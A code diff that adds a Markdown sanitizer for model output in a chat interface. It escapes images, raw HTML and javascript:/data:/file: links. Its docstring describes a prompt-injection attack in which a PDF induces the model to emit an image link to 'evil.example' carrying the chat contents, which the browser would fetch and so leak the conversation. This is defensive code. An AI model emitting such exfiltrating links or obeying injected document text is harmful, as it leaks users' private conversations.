@@ -26,6 +26,33 @@ STOPPED_MARK = t("en", "stopped_mark")
 _MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]<>()#+\-!|~])")
 
 
+# Code (fenced blocks and inline spans) is shown literally by the Markdown renderer and
+# kept as is; everything else is made inert.
+_CODE = re.compile(r"(```.*?(?:```|$)|~~~.*?(?:~~~|$)|`[^`\n]*`)", re.DOTALL)
+_HTML_TAG = re.compile(r"<(?=\s*/?\s*[A-Za-z!?])")
+_IMAGE = re.compile(r"!\[")
+_UNSAFE_LINK = re.compile(r"\]\(\s*<?\s*(?:javascript|vbscript|data|file):[^)]*\)", re.IGNORECASE)
+_UNSAFE_REF = re.compile(r"^(\s*\[[^\]]+\]:\s*)(?:javascript|vbscript|data|file):\S*", re.IGNORECASE | re.MULTILINE)
+
+
+def safe_markdown(text: str) -> str:
+    """Model output made safe to render: no remote fetch, no script, no frame.
+
+    Why: a PDF can talk the model into writing ``![x](https://evil.example/?q=<chat>)``;
+    rendered, the browser would fetch it and leak the chat. Images become their literal
+    text, raw HTML tags (img, iframe, script, ...) are shown as text, and
+    javascript:/data: links lose their target. Ordinary Markdown (bold, lists, code,
+    https links a user must click) is untouched.
+    """
+    pieces = _CODE.split(text)
+    for i in range(0, len(pieces), 2):  # even pieces are outside code
+        piece = _HTML_TAG.sub("&lt;", pieces[i])
+        piece = _IMAGE.sub(r"!\\[", piece)
+        piece = _UNSAFE_LINK.sub("]", piece)
+        pieces[i] = _UNSAFE_REF.sub(r"\1#", piece)
+    return "".join(pieces)
+
+
 def field(record: Any, name: str, default: Any = None) -> Any:
     """Read ``name`` from a dataclass-like object or a mapping."""
     if isinstance(record, Mapping):
@@ -79,6 +106,8 @@ def chat_messages(messages: Iterable[Any], lang: str = "en") -> list[dict[str, s
         role = field(message, "role")
         if role in ("user", "assistant"):
             content = str(field(message, "content", "") or "")
+            if role == "assistant":
+                content = safe_markdown(content)
             if role == "assistant" and field(message, "status") == "partial":
                 content += t(lang, "stopped_mark")
             shown.append({"role": role, "content": content})
